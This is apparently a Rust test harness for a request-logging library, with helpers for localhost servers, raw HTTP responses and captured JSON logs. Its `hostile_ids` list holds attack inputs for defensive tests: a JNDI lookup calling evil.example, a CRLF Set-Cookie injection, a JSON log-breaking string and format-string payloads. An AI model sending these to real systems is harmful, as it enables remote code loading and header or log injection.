//! Shared test harness: a real server on 127.0.0.1:0 on its own
//! multi-thread runtime whose threads log into a capture, plus raw-socket
//! and JSON helpers.
#![allow(dead_code, unreachable_pub, clippy::unwrap_used, clippy::expect_used)]

pub mod demo;
pub mod suites;

use std::collections::HashMap;
use std::net::SocketAddr;
use std::time::Duration;

use corrlog::testing::TestLogs;
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::runtime::Runtime;

/// A server runtime whose every thread (workers and blocking pool) logs to
/// its own capture, so tests in one binary never share a subscriber.
pub struct TestServer {
    pub addr: SocketAddr,
    pub capture: TestLogs,
    runtime: Option<Runtime>,
    stop: Option<Box<dyn FnOnce()>>,
}

impl TestServer {
    pub fn start(workers: usize, app: axum::Router) -> Self {
        Self::start_inner(workers, app, false)
    }

    /// Like `start`, with the peer address in `ConnectInfo`.
    pub fn start_with_connect_info(workers: usize, app: axum::Router) -> Self {
        Self::start_inner(workers, app, true)
    }

    fn start_inner(workers: usize, app: axum::Router, connect_info: bool) -> Self {
        let logs = TestLogs::new();
        let capture = logs.clone();
        let runtime = logs.runtime(workers);
        let addr = runtime.block_on(async {
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            let addr = listener.local_addr().unwrap();
            if connect_info {
                let make = app.into_make_service_with_connect_info::<SocketAddr>();
                tokio::spawn(async move { axum::serve(listener, make).await });
            } else {
                tokio::spawn(async move { axum::serve(listener, app).await });
            }
            addr
        });
        TestServer {
            addr,
            capture,
            runtime: Some(runtime),
            stop: None,
        }
    }

    /// A server another framework runs, listening on `addr` and logging
    /// into `capture`; `stop` shuts it down when the test is done.
    pub fn from_parts(addr: SocketAddr, capture: TestLogs, stop: impl FnOnce() + 'static) -> Self {
        TestServer {
            addr,
            capture,
            runtime: None,
            stop: Some(Box::new(stop)),
        }
    }

    pub fn url(&self, path: &str) -> String {
        format!("http://{}{}", self.addr, path)
    }

    /// Every captured line, parsed; fails the test on any line that is not
    /// a JSON object.
    pub fn lines(&self) -> Vec<Value> {
        parse_lines(&self.capture.bytes())
    }
}

impl Drop for TestServer {
    fn drop(&mut self) {
        if let Some(rt) = self.runtime.take() {
            rt.shutdown_timeout(Duration::from_secs(5));
        }
        if let Some(stop) = self.stop.take() {
            stop();
        }
    }
}

pub fn parse_lines(bytes: &[u8]) -> Vec<Value> {
    let text = std::str::from_utf8(bytes).expect("log output is UTF-8");
    text.lines()
        .map(|line| {
            let v: Value = serde_json::from_str(line)
                .unwrap_or_else(|e| panic!("line is not JSON ({e}): {line:?}"));
            assert!(v.is_object(), "line is not an object: {line}");
            v
        })
        .collect()
}

/// Serves `app` on 127.0.0.1, on a free port, from `runtime`; returns the
/// address.
pub fn serve(runtime: &Runtime, app: axum::Router) -> SocketAddr {
    runtime.block_on(async {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move { axum::serve(listener, app).await });
        addr
    })
}

/// A client runtime, separate from the server's.
pub fn client_runtime() -> Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap()
}

pub fn is_uuid_v4(s: &str) -> bool {
    s.len() == 36
        && s.as_bytes()[14] == b'4'
        && s.bytes().enumerate().all(|(i, b)| match i {
            8 | 13 | 18 | 23 => b == b'-',
            _ => b.is_ascii_digit() || (b'a'..=b'f').contains(&b),
        })
}

pub fn str_field<'a>(line: &'a Value, key: &str) -> Option<&'a str> {
    line.get(key).and_then(Value::as_str)
}

/// One HTTP/1.1 response read off a raw connection.
#[derive(Debug)]
pub struct RawResponse {
    pub status: u16,
    pub headers: Vec<(String, Vec<u8>)>,
    pub body: Vec<u8>,
}

impl RawResponse {
    pub fn header(&self, name: &str) -> Option<String> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| String::from_utf8_lossy(v).into_owned())
    }

    pub fn header_count(&self, name: &str) -> usize {
        self.headers
            .iter()
            .filter(|(n, _)| n.eq_ignore_ascii_case(name))
            .count()
    }

    pub fn json(&self) -> Value {
        serde_json::from_slice(&self.body).expect("JSON body")
    }
}

/// Reads responses from a raw connection, keeping leftover bytes between
/// calls (pipelining).
pub struct RawConn {
    pub stream: TcpStream,
    buf: Vec<u8>,
}

impl RawConn {
    pub async fn connect(addr: SocketAddr) -> Self {
        RawConn {
            stream: TcpStream::connect(addr).await.unwrap(),
            buf: Vec::new(),
        }
    }

    pub async fn send(&mut self, bytes: &[u8]) {
        self.stream.write_all(bytes).await.unwrap();
    }

    async fn fill(&mut self) -> bool {
        let mut chunk = [0u8; 16 * 1024];
        let n = tokio::time::timeout(Duration::from_secs(20), self.stream.read(&mut chunk))
            .await
            .expect("response within 20 s")
            .unwrap();
        self.buf.extend_from_slice(&chunk[..n]);
        n > 0
    }

    /// Reads one response with a content-length or chunked body.
    pub async fn read_response(&mut self) -> RawResponse {
        let head_end = loop {
            if let Some(p) = self.buf.windows(4).position(|w| w == b"\r\n\r\n") {
                break p;
            }
            assert!(self.fill().await, "connection closed before a response");
        };
        let head = String::from_utf8_lossy(&self.buf[..head_end]).into_owned();
        let mut head_bytes_lines = self.buf[..head_end].split(|&b| b == b'\n');
        let status_line = String::from_utf8_lossy(head_bytes_lines.next().unwrap()).into_owned();
        let status: u16 = status_line
            .split_whitespace()
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| panic!("bad status line in {head:?}"));
        let mut headers = Vec::new();
        for line in head_bytes_lines {
            let line = line.strip_suffix(b"\r").unwrap_or(line);
            if let Some(colon) = line.iter().position(|&b| b == b':') {
                let name = String::from_utf8_lossy(&line[..colon]).trim().to_owned();
                let mut value = &line[colon + 1..];
                while value.first() == Some(&b' ') {
                    value = &value[1..];
                }
                headers.push((name, value.to_vec()));
            }
        }
        self.buf.drain(..head_end + 4);
        let mut resp = RawResponse {
            status,
            headers,
            body: Vec::new(),
        };
        if let Some(len) = resp.header("content-length") {
            let len: usize = len.trim().parse().unwrap();
            while self.buf.len() < len {
                assert!(self.fill().await, "connection closed mid-body");
            }
            resp.body = self.buf.drain(..len).collect();
        } else if resp
            .header("transfer-encoding")
            .is_some_and(|te| te.contains("chunked"))
        {
            loop {
                let line_end = loop {
                    if let Some(p) = self.buf.windows(2).position(|w| w == b"\r\n") {
                        break p;
                    }
                    assert!(self.fill().await, "connection closed mid-chunk");
                };
                let size_text = String::from_utf8_lossy(&self.buf[..line_end]).into_owned();
                let size = usize::from_str_radix(size_text.trim(), 16).unwrap();
                while self.buf.len() < line_end + 2 + size + 2 {
                    assert!(self.fill().await, "connection closed mid-chunk");
                }
                resp.body
                    .extend_from_slice(&self.buf[line_end + 2..line_end + 2 + size]);
                self.buf.drain(..line_end + 2 + size + 2);
                if size == 0 {
                    break;
                }
            }
        }
        resp
    }
}

/// `GET path` with extra raw header lines, as bytes.
pub fn get_request(path: &str, extra_headers: &[&[u8]]) -> Vec<u8> {
    let mut req = format!("GET {path} HTTP/1.1\r\nhost: test\r\n").into_bytes();
    for h in extra_headers {
        req.extend_from_slice(h);
        req.extend_from_slice(b"\r\n");
    }
    req.extend_from_slice(b"\r\n");
    req
}

/// Groups lines by their request_id.
pub fn by_request_id(lines: &[Value]) -> HashMap<String, Vec<Value>> {
    let mut map: HashMap<String, Vec<Value>> = HashMap::new();
    for line in lines {
        if let Some(id) = str_field(line, "request_id") {
            map.entry(id.to_owned()).or_default().push(line.clone());
        }
    }
    map
}

/// Raw `x-request-id` values a client might send, none of which may be
/// trusted: one list for every hostile-input test.
pub fn hostile_ids() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("empty", b"".to_vec()),
        ("spaces", b"    ".to_vec()),
        ("inner space", b"abc def-space".to_vec()),
        ("quote", b"abc\"def-quote".to_vec()),
        ("backslash", b"abc\\def-backslash".to_vec()),
        ("tab", b"abc\tdef-tab".to_vec()),
        ("cr", b"abc\rdef-cr".to_vec()),
        ("nul", b"abc\0def-nul".to_vec()),
        ("esc ansi", b"abc\x1b[2Jdef-esc".to_vec()),
        ("bel", b"abc\x07def-bel".to_vec()),
        ("del", b"abc\x7fdef-del".to_vec()),
        ("c1 controls", b"abc\xc2\x85\xc2\x9bdef-c1".to_vec()),
        ("raw c1 bytes", b"abc\x85\x9bdef-c1raw".to_vec()),
        ("percent crlf", b"abc%0d%0aSet-Cookie:%20x=1".to_vec()),
        (
            "non-ascii utf8",
            "\u{ef}d-\u{fc}-nonascii".as_bytes().to_vec(),
        ),
        ("bidi override", "abc\u{202e}fed-bidi".as_bytes().to_vec()),
        ("line separator", "abc\u{2028}def-ls".as_bytes().to_vec()),
        ("zero width", "abc\u{200b}def-zw".as_bytes().to_vec()),
        ("bom", "\u{feff}abc-bom".as_bytes().to_vec()),
        ("homoglyph", "\u{430}bc-homoglyph".as_bytes().to_vec()), // Cyrillic a
        ("invalid utf8", b"abc\xff\xfe\xfddef-bad-utf8".to_vec()),
        (
            "json breaker",
            br#"x","level":"ERROR","message":"pwned-json"#.to_vec(),
        ),
        ("jndi", b"${jndi:ldap://evil.example/a}".to_vec()),
        ("format strings", b"%s%n%x{}{0}-fmt".to_vec()),
        ("129 bytes", vec![b'a'; 129]),
        ("8 KiB", vec![b'k'; 8 * 1024]),
        ("300 KB", vec![b'm'; 300 * 1000]),
    ]
}

/// Whether `needle` occurs in `haystack`. An empty needle is never found:
/// callers asking whether a value leaked skip values too short to tell.
pub fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && haystack.windows(needle.len()).any(|w| w == needle)
}

/// Invisible and bidi characters, one of each class the escaper lists
/// (soft hyphen, ALM, MVS, zero-width, LRM/RLM, separators, embeddings and
/// overrides, invisible operators, isolates, BOM, annotations, C1).
pub const INVISIBLE: &[char] = &[
    '\u{ad}', '\u{61c}', '\u{180e}', '\u{200b}', '\u{200c}', '\u{200d}', '\u{200e}', '\u{200f}',
    '\u{2028}', '\u{202a}', '\u{202e}', '\u{2060}', '\u{2064}', '\u{2066}', '\u{2069}', '\u{206f}',
    '\u{feff}', '\u{fff9}', '\u{fffb}', '\u{85}',
];
